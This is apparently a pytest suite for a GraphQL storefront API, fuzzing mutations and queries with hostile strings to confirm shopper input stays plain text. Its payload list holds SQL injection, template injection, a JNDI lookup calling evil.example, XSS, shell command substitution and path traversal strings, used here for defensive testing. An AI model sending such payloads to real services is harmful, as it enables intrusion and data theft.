"""Is every text that a shopper sends taken as text, and nothing else? S7 of the bar."""

import json
from collections.abc import AsyncGenerator, Callable, Iterator
from itertools import islice
from typing import Any, cast

import pytest
import pytest_asyncio
from graphql import (
    GraphQLEnumType,
    GraphQLInputObjectType,
    GraphQLList,
    GraphQLNonNull,
    get_named_type,
    is_composite_type,
    is_required_input_field,
)
from temporalio.client import Client

from api.resolvers import build_schema
from tests.builders import cart, product
from tests.security.test_orders import BY_DETAILS
from tests.storefront import ADDRESS, Answer, Storefront, a_storefront
from tests.world import a_world

SHORT = (
    *("'", '"', "\\", "`", "%", "_", "$1", "?", ":id", "%s", "{0}", "--", "/*", ";", "\\'"),
    "'; DROP TABLE carts; --",
    "' OR '1'='1",
    '" OR ""="',
    "1) UNION SELECT token FROM orders --",
    "||pg_sleep(9)--",
    '{"a": [1',
    "\\u0000\\ud800",
    "null",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "&lt;&#0;",
    "$(id)|`id`",
    "../../etc/passwd",
    "=1+1",
    "NaN",
    "1e309",
    "٣",
    "é",
    "e\u0301",
    "İß",
    "\u202egnp.exe\u202c",
    "a\u200bb",
    "a\u0085b",
    "a\u2028b",
    "a\ufeffb",
    "\uffff",
    "\U0010ffff",
    "😀👩‍👩‍👧",
)
"""What a database, a template, a shell or a browser might take for its own; all of it is text."""

LONG = ("x" * 255, "ü" * 255, "😀" * 255, "x" * 256, "x" * 10_000, "x" * 100_000)
CONTROLS = ("a\x01b", "a\tb", "a\nb", "a\r\nb", "a\x1b[2Jb", "a\x7fb")
TEXTS = (*SHORT, *LONG, *CONTROLS, "", " ")
INPUTS = 10_000
PLENTY = 1_000_000


@pytest_asyncio.fixture(scope="module", params=["sqlite", "postgresql"])
async def shop(
    request: pytest.FixtureRequest, temporal: Client, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Storefront]:
    """A store on either database, and its GraphQL server; what a test changes is its own."""
    on_sqlite = request.param == "sqlite"
    url = "" if on_sqlite else request.getfixturevalue("postgresql").create()
    async with a_world(temporal, tmp_path_factory.mktemp("texts"), url) as world:
        world.store.catalog.put([product(sku, PLENTY) for sku in ("apple", *SHORT)])
        async with a_storefront(world) as made:
            yield made
        assert world.store.audit.run().violations == ()


# -- every text in every string of every mutation --------------------------------------------------

CART = "the-cart-of-every-text"
USUAL: dict[str, Any] = {
    "cart_id": CART,
    "cartId": CART,
    "source_cart_id": CART,
    "carrier_code": "flatrate",
    "cart_item_id": 1,
    "code": "checkmo",
    "country_code": "US",
    "method_code": "flatrate",
    "postcode": "78701",
    "sku": "apple",
    "street": ["1 Main St"],
}
"""By name: what gets a request past the first checks, optional or not."""

NEEDED = {"address", "billing_address", "input", "payment_method"}
OF_CUSTOMERS = {"mergeCarts", "assignCustomerToGuestCart"}
CHECKOUTS = {"placeOrder", "completeOrder", "setPaymentMethodAndPlaceOrder"}
"""At most one of these may be in a document; they are below."""

Put = Callable[[str], Any]
"""From a text to a value that has it in one place."""


def usual(type_: Any, name: str) -> Any:
    """A value that is in order."""
    if isinstance(type_, GraphQLNonNull):
        return usual(cast(Any, type_).of_type, name)
    if isinstance(type_, GraphQLInputObjectType):
        return {
            each: usual(field.type, each)
            for each, field in type_.fields.items()
            if is_required_input_field(field) or each in USUAL or each in NEEDED
        }
    if name in USUAL:
        return "US" if isinstance(type_, GraphQLEnumType) else USUAL[name]
    if isinstance(type_, GraphQLList):
        return [usual(cast(Any, type_).of_type, name)]
    if isinstance(type_, GraphQLEnumType):
        return next(iter(type_.values))
    return {"Int": 1, "Float": 1.0, "Boolean": False}.get(str(type_), "text")


def places(type_: Any, name: str) -> Iterator[Put]:
    """Every place for a text in a value of this type; the rest is in order.

    Of an object that no request needs, one place: it is read as a whole, or not at all.
    """
    if isinstance(type_, GraphQLNonNull):
        yield from places(cast(Any, type_).of_type, name)
    elif isinstance(type_, GraphQLList):
        for put in places(cast(Any, type_).of_type, name):
            yield lambda text, put=put: [put(text)]
    elif isinstance(type_, GraphQLInputObjectType):
        others = usual(type_, name)
        for each, field in type_.fields.items():
            optional = isinstance(field.type, GraphQLInputObjectType) and each not in NEEDED
            for put in islice(places(field.type, each), 1 if optional else None):
                yield lambda text, each=each, put=put: {**others, each: put(text)}
    elif str(type_) in ("String", "ID"):
        yield lambda text: text


def document(name: str, field: Any, times: int) -> str:
    """A mutation, so many times."""
    declared = " ".join(
        f"${arg}{n}: {x.type}" for arg, x in field.args.items() for n in range(times)
    )
    selection = "{ __typename }" if is_composite_type(get_named_type(field.type)) else ""
    calls = [
        f"m{n}: {name}({', '.join(f'{arg}: ${arg}{n}' for arg in field.args)}) {selection}"
        for n in range(times)
    ]
    return f"mutation ({declared}) {{ {' '.join(calls)} }}"


def assert_no_bug(answer: Answer) -> None:
    errors = answer.body.get("errors", [])
    assert answer.status < 500
    assert [each for each in errors if each["extensions"]["category"] == "internal"] == []


async def test_no_text_breaks_a_mutation(shop: Storefront) -> None:
    schema, inputs = build_schema(), 0
    assert schema.mutation_type is not None
    texts = TEXTS if shop.world.store.database.is_sqlite else TEXTS[::3]  # it is slower
    for name, field in schema.mutation_type.fields.items():
        if name in CHECKOUTS:
            continue
        asking = shop.as_customer() if name in OF_CUSTOMERS else shop
        times = (
            1 if isinstance(field.type, GraphQLNonNull) else len(texts)
        )  # or one error ends them all
        text = document(name, field, times)
        for place, put in [
            (arg, put) for arg, x in field.args.items() for put in places(x.type, arg)
        ]:
            for start in range(0, len(texts), times):
                shop.world.store.carts.save(cart(CART, ("apple", 1)))
                variables = {
                    f"{arg}{n}": put(texts[start + n]) if arg == place else usual(x.type, arg)
                    for arg, x in field.args.items()
                    for n in range(times)
                }
                answer = await asking.post(text, variables)
                assert_no_bug(answer)
                assert answer.status != 400, answer.body
                inputs += times
    assert inputs > INPUTS * len(texts) // len(TEXTS)


BY_TEXT = {
    "placeOrder": "mutation ($text: String!) { placeOrder(input: {cart_id: $text}) { {} } }",
    "cartId": """mutation ($text: String!) {
      completeOrder(input: {cartId: $text, id: "PAY1"}) { {} } }""",
    "id": """mutation ($text: String!, $cart: String!) {
      completeOrder(input: {cartId: $cart, id: $text}) { {} } }""",
    "code": """mutation ($text: String!, $cart: String!) { setPaymentMethodAndPlaceOrder(
      input: {cart_id: $cart, payment_method: {code: $text}}) { {} } }""",
    "purchase_order_number": """mutation ($text: String!, $cart: String!) {
      setPaymentMethodAndPlaceOrder(input: {cart_id: $cart, payment_method:
      {code: "banktransfer", purchase_order_number: $text}}) { {} } }""",
    "cart": "query ($text: String!) { cart(cart_id: $text) { id } }",
    "number": """query ($text: String!) {
      guestOrder(input: {number: $text, email: $text, lastname: $text}) { number } }""",
    "token": "query ($text: String!) { guestOrderByToken(input: {token: $text}) { number } }",
    "country": "query ($text: String!) { country(id: $text) { id } }",
    "formCode": "query ($text: String!) { attributesForm(formCode: $text) { __typename } }",
    "match": """query ($text: String!) { customer { orders(
      filter: {number: {match: $text, eq: $text}, status: {eq: $text}}) { total_count } } }""",
    "order_date": """query ($text: String!) { customer { orders(
      filter: {order_date: {from: $text}}) { total_count } } }""",
    "grand_total": """query ($text: String!) { customer { orders(
      filter: {grand_total: {to: $text}}) { total_count } } }""",
}


@pytest.mark.parametrize("place", BY_TEXT)
async def test_no_text_breaks_an_order_or_a_query(shop: Storefront, place: str) -> None:
    customer = shop.as_customer()
    await customer.an_order()
    cart_id = await shop.a_ready_cart()
    before = shop.world.store.carts.find(cart_id)
    query = BY_TEXT[place].replace("{}", "orderV2 { number } errors { code message }")
    asking = customer if "customer" in query else shop
    for text in TEXTS:
        answer = await asking.post(query, {"text": text, "cart": cart_id})
        assert_no_bug(answer)
        assert '"number": "0' not in json.dumps(answer.body), "an order was made, or shown"
    assert shop.world.store.carts.find(cart_id) == before


# -- what is stored reads back as it was sent ------------------------------------------------------

KEPT = (*SHORT, *LONG[:3])
"""Texts that fit every field of an address."""

NAMES = (
    "firstname",
    "lastname",
    "company",
    "city",
    "prefix",
    "middlename",
    "suffix",
    "fax",
    "vat_id",
)
SHOWN = f"{' '.join(NAMES)} telephone street"
STORE = """mutation ($cart: String!, $address: CartAddressInput!) {
  setShippingAddressesOnCart(input:
    {cart_id: $cart, shipping_addresses: [{address: $address}]}) { cart { id } }
  setBillingAddressOnCart(input: {cart_id: $cart, billing_address: {address: $address}})
    { cart { id } }
}"""
OF_CART = f"""query ($cart: String!) {{ cart(cart_id: $cart) {{
  shipping_addresses {{ {SHOWN} region {{ label }} }}
  billing_address {{ {SHOWN} region {{ label }} }}
  items {{ product {{ sku name }} }} }} }}"""
OF_ORDER = f"""query ($token: String!) {{ guestOrderByToken(input: {{token: $token}}) {{
  shipping_address {{ {SHOWN} region }} billing_address {{ {SHOWN} region }}
  items {{ product_sku product_name }} }} }}"""


async def a_cart_with(shop: Storefront, sku: str = "apple") -> str:
    cart_id = await shop.a_cart()
    await shop.take(cart_id, "items", "email", items=[(sku, 1)])
    return cart_id


async def test_an_address_reads_back_as_it_was_sent_and_so_does_the_order(
    shop: Storefront,
) -> None:
    for n in range(0, len(KEPT), 3):
        texts = (*KEPT[n:], *KEPT[:n])
        address = {
            **dict(zip(NAMES, texts, strict=False)),
            "street": list(texts[9:11]),
            "telephone": texts[11][:64],
        }
        elsewhere = {"country_code": "DE", "postcode": "10115", "region": texts[12]}
        cart_id = await a_cart_with(shop)
        sent = {"cart": cart_id, "address": {**address, **elsewhere}}
        assert (await shop.post(STORE, sent)).data
        await shop.take(cart_id, "shipping_method", "payment_method")
        in_cart = {**address, "region": {"label": texts[12]}}
        shown = (await shop.post(OF_CART, {"cart": cart_id})).data["cart"]
        assert (shown["shipping_addresses"], shown["billing_address"]) == ([in_cart], in_cart)

        placed = (await shop.place(cart_id)).data["placeOrder"]["orderV2"]
        order = (await shop.post(OF_ORDER, {"token": placed["token"]})).data["guestOrderByToken"]
        in_order = {**address, "region": texts[12]}
        assert (order["shipping_address"], order["billing_address"]) == (in_order, in_order)
        details = {"number": placed["number"], "lastname": texts[1], "email": "jdoe@example.com"}
        found = await shop.post(BY_DETAILS, details)
        assert found.data["guestOrder"]["number"] == placed["number"]


@pytest.mark.parametrize("name", [*NAMES, "street", "telephone", "postcode", "region"])
async def test_what_does_not_fit_an_address_is_refused_and_named(
    shop: Storefront, name: str
) -> None:
    cart_id = await a_cart_with(shop)
    before = shop.world.store.carts.find(cart_id)
    for text in (*CONTROLS, *LONG[3:]):
        value = [text] if name == "street" else text
        wrong = {**ADDRESS, "country_code": "DE", "region_id": None, name: value}
        answer = await shop.post(STORE, {"cart": cart_id, "address": wrong})
        told = {each["message"] for each in answer.body["errors"]}
        assert told == {f'"{name}" is invalid. Enter and try again.'}
    assert shop.world.store.carts.find(cart_id) == before


async def test_an_email_address_reads_back_as_it_was_sent(shop: Storefront) -> None:
    document = """mutation ($cart: String!, $email: String!) {
      setGuestEmailOnCart(input: {cart_id: $cart, email: $email}) { cart { email } } }"""
    cart_id, kept = await shop.a_cart(), 0
    for text in TEXTS:
        email = f"{text}@example.com"
        answer = await shop.post(document, {"cart": cart_id, "email": email})
        if "errors" in answer.body:
            assert answer.message == "Invalid email format"
            continue
        assert answer.data["setGuestEmailOnCart"]["cart"]["email"] == email
        assert email.isprintable()
        kept += 1
    assert kept > len(SHORT) // 2


async def test_a_purchase_order_number_reads_back_as_it_was_sent(shop: Storefront) -> None:
    shop = shop.of_new_store(payment_methods=("purchaseorder",))
    document = """mutation ($cart: String!, $number: String!) { setPaymentMethodOnCart(
      input: {cart_id: $cart, payment_method: {code: "purchaseorder",
      purchase_order_number: $number}}) { cart { selected_payment_method
      { purchase_order_number } } } }"""
    cart_id, kept = await shop.a_ready_cart(without={"payment_method"}), 0
    for text in TEXTS:
        answer = await shop.post(document, {"cart": cart_id, "number": text})
        if "errors" in answer.body:
            assert text not in SHORT
            continue
        chosen = answer.data["setPaymentMethodOnCart"]["cart"]["selected_payment_method"]
        assert chosen == {"purchase_order_number": text}
        kept += 1
    assert kept == len(SHORT)


async def test_a_product_is_found_by_its_own_sku_only(shop: Storefront) -> None:
    for sku in SHORT:
        shown = (await shop.post(OF_CART, {"cart": await a_cart_with(shop, sku)})).data["cart"]
        assert shown["items"] == [{"product": {"sku": sku, "name": f"Product {sku}"}}]


async def test_a_customer_is_known_by_their_own_name_only(shop: Storefront) -> None:
    query, found = "{ customerCart { id } }", list[list[str]]()
    for _ in range(2):
        carts = [
            (await shop.as_customer(each).post(query)).data["customerCart"]["id"] for each in SHORT
        ]
        assert len(set(carts)) == len(SHORT)
        found.append(carts)
    assert found[0] == found[1]
